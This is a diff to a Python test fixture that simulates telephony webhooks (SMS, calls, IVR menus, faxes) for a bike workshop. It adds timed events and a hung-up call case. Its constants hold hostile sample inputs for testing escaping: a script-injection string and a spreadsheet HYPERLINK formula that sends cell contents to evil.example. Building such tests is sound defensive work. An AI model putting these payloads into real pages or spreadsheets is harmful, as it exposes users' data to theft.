@@ -27,8 +27,9 @@ OURS = "+6562221000"
 ABROAD = "batam"
 BULK = "AA-B-2041"
 
-SCRIPT = "<script>document.title = 'owned'</script>"
+SCRIPT = "<script>alert(1)</script>"
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
+QUESTION = "Hello! The chain came off again on the way home. When could I bring the bike in?"
 SECRET = "My door code is 4711, please ring twice."
 RECORDING = "https://recordings.example.com/rec-8812.mp3"
 ACCOUNTS = {
@@ -69,6 +70,7 @@ class Workshop:
         for ago in reversed(range(self.days + 1)):
             self._day(self._at(ago, 8))
         self._bulk(self._at(2, 10))
+        self._today()
         self._mei()
         self._strangers()
         with _listening():
@@ -95,12 +97,30 @@ class Workshop:
             self._sms_received(self._soon(morning))
         for _ in range(round(8 * weight)):
             self._call(self._soon(morning), self.random.choice(["default", "default", ABROAD]))
-        for _ in range(round(self.random.random() * 6 * weight)):
+        for _ in range(round(4 * weight)):
             self._menu(self._soon(morning))
-        for _ in range(round(self.random.random() * 3 * weight)):
+        for _ in range(round(self.random.choice([0, 1, 2]) * weight)):
+            self._hung_up(self._soon(morning))
+        for _ in range(round(self.random.choice([0, 1, 1, 2, 3]) * weight)):
             self._fax(self._soon(morning))
 
-    def _sms_sent(self, moment: datetime, account: str) -> None:
+    def _today(self) -> None:
+        """The last hours, in which not all has gone well, and the latest SMS is on its way."""
+        for minutes, account, end in (
+            (218, "default", "delivered"),
+            (171, "default", "delivered"),
+            (112, "default", "failed"),
+            (94, ABROAD, "delivered"),
+            (47, "default", "delivered"),
+            (18, "default", ""),
+        ):
+            self._sms_sent(self.now - timedelta(minutes=minutes), account, end)
+        for minutes in (203, 131, 66):
+            self._call(self.now - timedelta(minutes=minutes), "default")
+        self._sms_received(self.now - timedelta(minutes=155))
+        self._menu(self.now - timedelta(minutes=83))
+
+    def _sms_sent(self, moment: datetime, account: str, end: str | None = None) -> None:
         currency, price, _minute = _PRICES[account]
         named = {
             **self._named("AA-S", moment),
@@ -110,7 +130,8 @@ class Workshop:
             "rate": price,
         }
         self.say(moment, "sms", {**named, "sms_status": "queued"}, account)
-        end = self.random.choices(["delivered", "failed", ""], [93, 7, 0.4])[0]
+        if end is None:
+            end = self.random.choices(["delivered", "failed", ""], [92, 7, 1])[0]
         if end:
             self.say(moment + timedelta(seconds=9), "sms", {**named, "sms_status": end, "debit": price}, account)
 
@@ -133,6 +154,13 @@ class Workshop:
             "currency": currency,
         }
         self.say(moment, "voice", {**self._named("AA-C", moment), **said}, account)
+
+    def _hung_up(self, moment: datetime) -> None:
+        """Somebody who calls, and does not wait until the menu speaks."""
+        named = self._named("AA-C", moment)
+        call = {**named, "session": f"S-{named['txn_ref'][5:]}", "from": self._number("default"), "to": OURS}
+        self.say(moment, "ivr", {**call, "ivr_block": "answer", "call_state": "ringing"})
+        self.say(moment + timedelta(seconds=3), "ivr", {**call, "call_state": "ended", "duration": 0})
 
     def _menu(self, moment: datetime, number: str = "", recording: str = "", digits: str = "1") -> None:
         """Somebody calls, presses a key and leaves a message; now and then one has hung up before that."""
@@ -179,8 +207,7 @@ class Workshop:
         """A customer asks, is answered, calls, and leaves a message."""
         first, second = self._at(3, 9), self._at(1, 11)
         asked = {"from": MEI, "to": OURS, "debit": 0.013, "currency": "SGD"}
-        text = "Hello! The chain came off again on the way home. When could I bring the bike in?"
-        self.say(first, "sms", {**asked, "txn_ref": "AA-SI-9001", "msg": text})
+        self.say(first, "sms", {**asked, "txn_ref": "AA-SI-9001", "msg": QUESTION})
         self._answer(
             "AA-S-9002",
             first + timedelta(minutes=4),
@@ -221,15 +248,7 @@ class Workshop:
 
     # How it is said.
 
-    def say(
-        self,
-        moment: datetime,
-        route: str,
-        said: dict[str, Any],
-        account: str = "default",
-        query: str = "",
-        **fields: Any,
-    ) -> None:
+    def say(self, moment: datetime, route: str, said: dict[str, Any], account: str = "default", **fields: Any) -> None:
         """Plan a notification as Hoiio would have posted it then."""
         began = self.began.setdefault(said.get("txn_ref"), moment)
         date = {"date": began.astimezone(CLOCK).strftime("%Y-%m-%d %H:%M:%S")}
